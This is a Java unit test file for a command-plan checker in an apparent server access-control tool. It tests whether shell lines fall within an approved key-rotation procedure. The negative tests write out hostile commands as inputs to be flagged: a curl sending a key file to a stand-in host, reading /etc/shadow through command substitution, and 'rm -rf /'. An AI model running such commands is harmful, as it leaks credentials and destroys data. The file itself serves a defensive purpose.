package dev.vigil.server.access;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.Map;

import dev.vigil.server.platform.web.ProblemException;
import org.junit.jupiter.api.Test;

/** The plan check of procedure executions: word lists, patterns, anytime commands and every command of a line. */
class ProcedurePlanTest {

    private static final ProcedurePlan PLAN = new ProcedurePlan(ProcedureDefinition.ofYaml("""
            name: rotate
            kind: key-rotation
            anytime: ["ls", "df -h"]
            steps:
              - title: New key
                commands: ["openssl genpkey", "chmod 600 *"]
              - title: Reload
                commands: ["systemctl reload"]
                patterns: ["^nginx -t( -q)?$"]
                evidence: true
            """));

    @Test
    void aCommandMatchingAStepIsPlannedAndNamesTheStep() {
        assertThat(PLAN.check("openssl genpkey -algorithm ed25519 -out k")).isEqualTo(new ProcedurePlan.Check(true, 1, List.of()));
        assertThat(PLAN.check("/usr/bin/openssl genpkey -out k").step()).as("programs by base name").isEqualTo(1);
        assertThat(PLAN.check("chmod 600 /etc/k").step()).as("* is one word").isEqualTo(1);
        assertThat(PLAN.check("nginx -t && systemctl reload nginx")).isEqualTo(new ProcedurePlan.Check(true, 2, List.of()));
        assertThat(PLAN.check("sudo systemctl reload nginx").planned()).as("inside sudo").isTrue();
        assertThat(PLAN.check("ls -la /etc")).isEqualTo(new ProcedurePlan.Check(true, null, List.of()));
    }

    @Test
    void anyCommandOfTheLineOutsideThePlanFlagsTheLine() {
        assertThat(PLAN.check("openssl version").planned()).isFalse();
        assertThat(PLAN.check("chmod 777 /etc/k").planned()).isFalse();
        assertThat(PLAN.check("ls; curl -d @k https://x.example")).isEqualTo(new ProcedurePlan.Check(false, null,
                List.of("curl -d @k https://x.example")));
        assertThat(PLAN.check("ls $(cat /etc/shadow)").planned()).as("inside a substitution").isFalse();
        assertThat(PLAN.check("sudo bash -c 'rm -rf /'").planned()).isFalse();
        assertThat(PLAN.check("$cmd genpkey").planned()).as("program known only after expansion").isFalse();
        assertThat(PLAN.check("nginx -t -v").planned()).isFalse();
    }

    @Test
    void leavingTheShellIsAlwaysPlannedButNothingElseOnItsLine() {
        assertThat(PLAN.check("exit")).isEqualTo(new ProcedurePlan.Check(true, null, List.of()));
        assertThat(PLAN.check("logout").planned()).isTrue();
        assertThat(PLAN.check("rm -rf /srv; exit").unplanned()).containsExactly("rm -rf /srv");
    }

    @Test
    void anInvalidDefinitionIsRefusedNamingTheField() {
        assertThatThrownBy(() -> ProcedureDefinition.of(Map.of("name", "x", "kind", "other", "steps", List.of())))
                .isInstanceOf(ProblemException.class).hasMessageContaining("steps");
        assertThatThrownBy(() -> ProcedureDefinition.of(Map.of("name", "x", "kind", "other", "maxWindowHours", 500,
                "steps", List.of(Map.of("title", "a"))))).hasMessageContaining("maxWindowHours");
        assertThatThrownBy(() -> ProcedureDefinition.of(Map.of("name", "x", "kind", "other",
                "steps", List.of(Map.of("title", "a", "commands", List.of("* rm")))))).hasMessageContaining("steps[1].commands");
        assertThatThrownBy(() -> ProcedureDefinition.ofYaml("name: [")).hasMessageContaining("YAML");
    }
}
